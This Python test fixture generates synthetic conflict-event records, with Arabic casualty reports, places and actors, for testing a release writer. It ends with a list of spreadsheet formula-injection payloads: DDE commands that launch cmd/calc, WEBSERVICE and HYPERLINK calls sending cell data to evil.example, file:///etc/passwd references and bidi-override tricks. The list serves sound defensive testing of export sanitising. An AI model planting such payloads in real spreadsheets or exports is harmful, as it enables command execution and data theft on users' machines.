"""Made-up events to write releases of: every field filled somewhere and empty somewhere, Arabic and hostile text among them."""

import datetime as dt
import random
from collections.abc import Sequence

from waqai.release.values import Actor, Event, Evidence, Facts, Figure, Ruling, Site, Source, Toll
from waqai.score import FAMILY

FACTS = Facts(
    profile="public",
    policy="public-v1",
    policy_hash="ab" * 32,
    program="waqai 0.1.0",
    knowledge="cd" * 32,
    decisions_head="ef" * 32,
    made=dt.datetime(2024, 6, 1, 12, 30, 15, tzinfo=dt.UTC),
    note="Claims as a program read them, not verified facts.",
)
_TYPES = tuple(FAMILY)
_PLACES = (("Idlib", "SY", "SY-ID", 35.93, 36.63), ("Marib", "YE", "YE-MA", 15.47, 45.32), ("Tripoli", "LY", "LY-TB", 32.89, 13.18))
_PARTIES = (("sy-regime", "Syrian army", "state_forces", "SY"), ("ye-houthis", "Houthis", "rebel_group", "YE"))
_TEXT = "قصفت طائرات حربية أطراف البلدة مساء الاثنين، وقُتل ثلاثة مدنيين وجُرح سبعة، بحسب مصادر محلية في البلدة"

_RULING = Ruling(1, "2024-05-31T10:00:00Z", "reviewer", "accept", f"{'0' * 64}:1-4:shelling", "read twice")


def make_event(number: int, seed: int = 0) -> Event:
    """One event, the same for the same number and seed."""
    chance = random.Random(number * 1009 + seed)
    name, country, admin1, lat, lon = chance.choice(_PLACES)
    first = dt.date(2023, 1, 1) + dt.timedelta(days=chance.randrange(500))
    sources = tuple(_source(number, at, first, chance) for at in range(chance.randint(1, 2)))
    low = chance.randint(1, 9)
    has_site = chance.random() < 0.9
    return Event(
        id=f"{number:08x}{seed:04x}",
        type=chance.choice(_TYPES),
        modality=chance.choice(("actual", "actual", "actual", "denied", "planned")),
        grade=chance.choice(("Fair", "Weak", "Contested", None)),
        status=chance.choice(("unreviewed", "accepted", "corrected")),
        start=first if chance.random() < 0.9 else None,
        end=first + dt.timedelta(days=chance.randint(0, 3)) if chance.random() < 0.9 else None,
        actor=Actor(*chance.choice(_PARTIES), "SY", "قوات النظام") if chance.random() < 0.7 else None,
        target=Actor(None, None, "civilians", None, None, "مدنيين") if chance.random() < 0.6 else None,
        site=Site(name, "settlement", country, admin1, "Idlib", "Harem", lat, lon, 169_389, "إدلب") if has_site else None,
        figures=(Figure("killed", low, low + 1, None if low == 5 else low + 3, low == 4), Figure("injured", 2, 2, 2, False)),
        tolls=(Toll("killed", "civilians", low, low, low + 3, sources[0].report, "ثلاثة مدنيين"),),
        sources=sources,
        origins=len(sources),
        articles=len(sources) + 1,
        confidence=round(chance.random(), 4),
        decided=number if number % 7 == 0 else 0,
        rulings=(_RULING._replace(number=number),) if number % 7 == 0 else (),
        level=chance.choice(("L-A", "L-B")),
        withheld=("place", "date") if number % 5 == 0 else (),
    )


def _source(number: int, at: int, day: dt.date, chance: random.Random) -> Source:
    report = f"{number:06x}{at:02x}"
    document = f"{number % 5000:064x}"
    words = _TEXT.split()
    evidence = [Evidence("sentence", 100, 100 + len(_TEXT), _TEXT)]
    for field in ("actor", "target", "place", "time"):
        word = chance.choice(words)
        start = 100 + _TEXT.index(word)
        evidence.append(Evidence(field, start, start + len(word), word))
    return Source(
        report=report,
        document=document,
        voice=f"origin {at}",
        outlet=f"outlet{number % 5000 % 40}.example",
        url=f"https://outlet{number % 5000 % 40}.example/news/{number % 5000}",
        title=f"قصف على البلدة {number % 5000}",
        published=dt.date(2024, 1, 1) + dt.timedelta(days=number % 5000 % 100),
        start=day,
        end=day,
        when="مساء الاثنين",
        attribution="مصادر طبية" if at else None,
        attribution_kind="medical" if at else None,
        evidence=tuple(evidence),
        claims=(f"{document}:1-4:shelling",),
    )


def make_events(count: int, seed: int = 0) -> list[Event]:
    """So many events."""
    return [make_event(number, seed) for number in range(count)]


# What has run as a formula, led out of a file, broken a row or turned a line: beginnings and wholes.
_BEGIN = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u200f=", "\u202e=", "\ufeff=", "\u00a0=", "＝", "＋", "－", "＠",
    "\x00=", '"=', "'=", ";=",
)  # fmt: skip
_CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"قصف")',
    'WEBSERVICE("https://evil.example/")',
    'IMPORTXML("https://evil.example/","//a")',
    "'file:///etc/passwd'#$Sheet1.A1",
    "[https://evil.example/x.xlsx]Sheet1!A1",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "SUM(A1:A9)*cmd|'x'!A1",
    "-2+3+cmd|' /C notepad'!'A1'",
    'IMAGE("https://evil.example/x.png")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
)
_OTHERS = (
    "https://evil.example/", "file:///etc/passwd", "mailto:a@evil.example", "\\\\evil.example\\share", "internal:Sheet2!A1",
    "external:c:\\x.xlsx", "{=1+1}", "_x003D_1+1", "%0A=1+1", 'a","=1+1', 'a\r\n=1+1,"b', "a\t=1+1", "a\u2028=1+1", "a\x0b=1+1",
    "a\x85=1+1", "\u202egnp.exe", "قتل \u202eثلاثة\u202c مدنيين", "\u2067عكس\u2069", "<script>alert(1)</script>", "]]><c><f>1+1</f></c>",
    "</t></is></c><c><f>1+1</f></c>", "&lt;f&gt;", "SYLK ID;P", "|cmd", "%1", "#REF!", "TRUE", "00123", "1e5", "2024-05-31", "1/2",
    "\ufffe", "\x1b[31m", "a" * 40_000, "😀" * 20_000, "'", '"', "''", "", "\u200b", "sep=;",
)  # fmt: skip
PAYLOADS: Sequence[str] = tuple(dict.fromkeys([*(begin + call for begin in _BEGIN for call in _CALLS), *_BEGIN, *_OTHERS]))
